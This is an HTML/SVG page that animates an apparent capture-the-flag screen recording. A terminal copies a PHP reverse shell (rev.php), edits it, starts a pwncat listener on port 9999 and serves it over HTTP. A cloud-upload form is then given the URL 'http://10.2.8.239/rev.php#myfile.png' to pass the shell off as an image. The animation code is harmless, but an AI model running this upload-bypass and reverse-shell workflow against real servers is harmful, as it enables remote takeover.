
An HTML page that plays this animation: 1035 px wide and 541 px high, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal and cloud upload</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #1a1c23; }
svg { display: block; width: 100vw; height: 100vh; }
#term text { font: 500 10.78px "Noto Sans Mono", "DejaVu Sans Mono", monospace; white-space: pre; }
#term .b { font-weight: 700; }
#term .cjk { font-family: "Noto Sans CJK KR", "Noto Sans CJK JP", "Noto Sans CJK", sans-serif; text-anchor: middle; }
#page text { font-family: Lato, sans-serif; }
#bar text { font: 10.4px "Noto Sans", sans-serif; }
.icon { fill: none; stroke: #e8e8ee; stroke-width: 1.1; stroke-linecap: round; stroke-linejoin: round; }
</style>
</head>
<body>
<svg viewBox="0 0 1035 541" preserveAspectRatio="none">
  <defs>
    <linearGradient id="sky" x2="0" y2="1"><stop stop-color="#043777"/><stop offset="1" stop-color="#00659c"/></linearGradient>
    <linearGradient id="paper" x2="0" y2="1"><stop stop-color="#ffd968"/><stop offset="1" stop-color="#ffd35c"/></linearGradient>
  </defs>

  <rect width="517" height="541" fill="#1a1c23"/>
  <path d="M0 265.8H517" stroke="#30333b"/>
  <path d="M0 540H517" stroke="#272a31"/>
  <rect x="510" width="3.4" height="263" rx="1.5" fill="#54565c"/>
  <rect x="510" y="269" width="3.4" height="269" rx="1.5" fill="#54565c"/>
  <g id="term"></g>
  <g id="pulse" shape-rendering="crispEdges"></g>
  <rect x="2.5" y="324.5" width="7" height="14" fill="none" stroke="#d8dade"/>
  <g fill="#f2a12f">
    <ellipse cx="197" cy="129" rx="3.4" ry="2.3"/><circle cx="194.3" cy="125.6" r="2"/>
    <path d="M192.5 125V122.6L194.3 124L196 122.8V126ZM194 129H195.3V133H194ZM198.4 129H199.8V133H198.4Z"/>
    <path d="M199.5 129Q202.5 127 200.8 123.5" fill="none" stroke="#f2a12f" stroke-width="1.3"/>
  </g>

  <g id="bar">
    <rect x="517" width="518" height="8" fill="#1f2026"/>
    <path d="M566.5 0V6" stroke="#45444f"/>
    <path d="M701 0H831V2Q831 5 828 5H704Q701 5 701 2Z" fill="#42434a"/>
    <rect x="517" y="7.5" width="518" height="23.5" fill="#3a3b41"/>
    <rect x="624" y="10" width="262" height="19" rx="3" fill="#292a30"/>
    <rect x="836" y="12" width="29" height="15" rx="2.5" fill="#4a4b51"/>
    <text x="660" y="23.6" fill="#fbfbfe">10.10.151.131<tspan fill="#a9a8b0">/cloud/</tspan></text>
    <text x="850.5" y="23.3" text-anchor="middle" fill="#fbfbfe" style="font-size:10px">90%</text>
    <g class="icon">
      <path d="M536 19.5H528M531.5 16L528 19.5L531.5 23"/>
      <path d="M549 19.5H557M553.5 16L557 19.5L553.5 23"/>
      <path d="M577.6 18.2A4 4 0 1 0 577.8 20.6M578 15.5V18.6H575"/>
      <path d="M590.5 20L595 15.5L599.5 20M592 19V24H593.8V21H596.2V24H598V19"/>
      <path d="M630 16.6Q632.5 16.4 634 15Q635.5 16.4 638 16.6Q638.2 22 634 24.4Q629.8 22 630 16.6Z"/>
      <path d="M647 19H653V24H647ZM648.3 19V17Q650 13.8 651.7 17V19"/>
      <path d="M646 24.5L654.5 15.5" stroke="#e2384f" stroke-width="1.3"/>
      <path d="M876.5 15L877.9 18L881 18.4L878.7 20.6L879.3 23.8L876.5 22.2L873.7 23.8L874.3 20.6L872 18.4L875.1 18Z"/>
      <path d="M915 15V21M912.5 18.7L915 21.2L917.5 18.7M911 21.5V24H919V21.5"/>
      <path d="M933.5 23L937.5 19" stroke-width="2.2"/>
      <path d="M940.6 17.4A2.2 2.2 0 1 1 938.3 15.3" stroke-width="1.7"/>
      <path d="M954.5 17H957V16A1.4 1.4 0 0 1 959.6 16V17H962V24H954.5V21.6H955.8A1.3 1.3 0 0 0 955.8 19.2H954.5Z"/>
      <path d="M1018 16.3H1026M1018 19.5H1026M1018 22.7H1026"/>
    </g>
    <circle cx="979.5" cy="20" r="4.7" fill="#4b2fc0"/>
    <rect x="978.5" y="10.5" width="7.5" height="8.5" rx="1.5" fill="#6a3c91"/>
    <text x="982.2" y="17.4" text-anchor="middle" fill="#fff" style="font-size:7px">3</text>
    <circle cx="1000.5" cy="19.5" r="4.8" fill="#d5553f"/>
  </g>

  <g id="page">
    <rect x="517" y="31" width="518" height="510" fill="url(#sky)"/>
    <text x="766" y="75.4" text-anchor="end" font-size="17.3" fill="#fff">8 Seconds File Locker</text>
    <text x="950" y="75.4" text-anchor="end" font-size="17.3" font-weight="100" fill="#dce8f4">- Personal Cloud Storage</text>
    <path d="M730 141V128Q730 125.5 732.5 125.5H763Q767 125.5 769 127.5L774 132.5L766 141Z" fill="#ffb900"/>
    <path d="M730 139H762Q765.5 139 767.5 137L771 133.5Q772 132.5 774 132.5H821.5Q823 132.5 823 134V190Q823 192 821 192H732Q730 192 730 190Z" fill="url(#paper)"/>
    <path d="M730.5 191.6H822.5" stroke="#b99348" stroke-width="1.2"/>
    <text x="909" y="229" text-anchor="end" font-size="6.5" fill="#1d568c">External Url</text>
    <rect id="field" fill="#fff" fill-opacity=".2"/>
    <text id="entry" x="653" y="245" font-size="8.3" font-weight="900" fill="#fff"></text>
    <rect id="caret" y="237" width=".9" height="10" fill="#fff"/>
    <rect x="644" y="279" width="75" height="16.5" fill="#cddbe6"/>
    <text x="681.5" y="289.4" text-anchor="middle" font-size="6.2" fill="#104a84">UPLOAD IMAGE</text>
  </g>

  <g id="pointer">
    <path id="beam" d="M-2.5 -5.5Q0 -5.5 0 -4Q0 -5.5 2.5 -5.5M0 -4.5V4.5M-2.5 5.5Q0 5.5 0 4Q0 5.5 2.5 5.5" fill="none" stroke="#c3cad2"/>
    <path id="arrow" d="M.5 .5V10L2.6 8L4.1 11.4L5.6 10.7L4.1 7.5H7Z" fill="#15171b" stroke="#fff" stroke-width=".8"/>
    <path id="hand" d="M-.8 5.3V.8Q0 -.2 .8 .8V3.4L4.8 4.2Q5.7 4.5 5.5 5.6L4.8 9.6H.2L-2.3 6.2Q-2.4 4.9 -.8 5.8Z" fill="#15171b" stroke="#fff" stroke-width=".8"/>
  </g>
</svg>
<script>
const $ = id => document.getElementById(id);
const CELL = 6.468, LEFT = 2.5, ROW = 14.06;
const TEAL = '#5ebdab', BLUE = '#367bf0', CYAN = '#49aee6', WHITE = '#fff', GRAY = '#92959b';
const markup = [];

function run(col, y, text, fill, cls = '', extra = '') {
  markup.push(`<text x="${LEFT + col * CELL}" y="${y}" fill="${fill}" class="${cls}" ${extra}>${text}</text>`);
}

function shellPrompt(y) {
  markup.push(`<path d="M21.5 ${y - 4}H5.7V${y + 10}H14.8" fill="none" stroke="${TEAL}"/>`);
  run(3, y, '(', TEAL);
  run(4, y, 'tovu', BLUE, 'b');
  run(9, y, '㉿', BLUE, 'b cjk');
  run(10, y, 'tovu', BLUE, 'b');
  run(14, y, ')-[', TEAL);
  run(17, y, '~/Pictures/Chroot', WHITE, 'b');
  run(34, y, ']', TEAL);
  run(2, y + ROW, '$', BLUE, 'b');
}

const upper = n => 19 + n * ROW, lower = n => 278.6 + n * ROW;
[upper(0), upper(3), upper(6), lower(0)].forEach(y => shellPrompt(y));
run(4, upper(1), 'cp', CYAN);
run(7, upper(1), '/opt/PHPshells/rev.php .', WHITE, 'b');
run(4, upper(4), 'nano', CYAN);
run(9, upper(4), 'rev.php', WHITE, 'b');
run(4, upper(7), 'pwncat -lp', CYAN);
run(15, upper(7), '9999', GRAY);
run(0, upper(8), '[20:42:14]', '#2675a5');
run(11, upper(8), 'Welcome to', WHITE);
run(22, upper(8), 'pwncat', '#e02424');
run(31, upper(8), '!', WHITE);
run(63, upper(8), '__main__.py:164', GRAY);
markup.push(`<path d="M411 134.2H482M489 134.2H508" stroke="${GRAY}" stroke-dasharray="1 2"/>`);
run(0, upper(9), 'bound to', WHITE);
run(9, upper(9), '0.0.0.0:', BLUE, 'b');
run(17, upper(9), '9999', CYAN, 'b');
run(4, lower(1), 'sudo', TEAL, '', 'text-decoration="underline"');
run(9, lower(1), 'python3 -m', CYAN);
run(20, lower(1), 'http.server 80', WHITE);
run(0, lower(2), '[sudo] password for tovu:', WHITE);
run(0, lower(3), 'Serving HTTP on 0.0.0.0 port 80 (http://0.0.0.0:80/) ...', WHITE);
$('term').innerHTML = markup.join('');

const cells = Array.from({ length: 56 }, (_, i) =>
  `<rect x="${145 + i * CELL}" y="141" width="${CELL + .2}" height="2"/>`);
$('pulse').innerHTML = cells.join('');
const bars = [...$('pulse').children];

// Pasted address, then one time per typed character, in tenths of a second
const PASTE = 9, BASE = 'http://10.2.8.239/', TAIL = 'rev.php#myfile.png';
const KEYS = [22, 23, 25, 27, 28, 29, 30, 35, 40, 43, 52, 54, 55, 56, 57, 57, 58, 59];
const FOCUS = 1, BLUR = 77, SHOW = 69;
const PATH = [[0, 698, 245.5], [2, 698, 245.5], [8, 886, 364], [69, 886, 364],
  [71, 920, 411], [76, 693, 291], [78, 693, 291], [79, 691.5, 289.5]];

function pointerAt(s) {
  const k = PATH.findIndex(p => p[0] > s);
  if (k < 0) return PATH.at(-1).slice(1);
  const [t0, x0, y0] = PATH[k - 1], [t1, x1, y1] = PATH[k];
  let u = (s - t0) / (t1 - t0);
  u = u * u * (3 - 2 * u);
  return [x0 + (x1 - x0) * u, y0 + (y1 - y0) * u];
}

const show = (id, on) => $(id).style.display = on ? '' : 'none';
const inside = (x, y, l, t, r, b) => x >= l && x <= r && y >= t && y <= b;

function draw(now) {
  let s = Math.floor(now % 8000 / 100);
  if (s === 18 || s === 68) s--; // brief stalls

  const shift = Math.floor(-1.5 * s - 2.5);
  bars.forEach((bar, i) => {
    const mix = .5 + .5 * Math.cos((i + shift) * Math.PI / 10);
    const rgb = [249, 38, 114].map(c => Math.round(c + (58 - c) * mix));
    bar.setAttribute('fill', `rgb(${rgb})`);
  });

  const typed = KEYS.filter(k => k <= s).length;
  $('entry').textContent = s < PASTE ? '' : BASE + TAIL.slice(0, typed);
  const focus = s >= FOCUS && s < BLUR;
  const last = typed ? KEYS[typed - 1] : s < PASTE ? FOCUS : PASTE;
  show('caret', focus && (s - last) % 12 < 6);
  $('caret').setAttribute('x', 653 + $('entry').getComputedTextLength());

  const box = focus
    ? { x: 643.5, y: 232, width: 266, height: 20.5, stroke: '#8fb0cb', 'stroke-width': 1.2 }
    : { x: 644, y: 232.5, width: 265, height: 19.5, stroke: '#6f98bb', 'stroke-width': .8 };
  for (const key in box) $('field').setAttribute(key, box[key]);

  const [x, y] = pointerAt(s);
  const beam = inside(x, y, 644, 232, 909, 252), hand = inside(x, y, 644, 279, 719, 296);
  $('pointer').setAttribute('transform', `translate(${x} ${y})`);
  show('pointer', s < KEYS[0] || s >= SHOW);
  show('beam', beam);
  show('hand', hand);
  show('arrow', !beam && !hand);
  requestAnimationFrame(draw);
}
draw(performance.now());
</script>
</body>
</html>
```
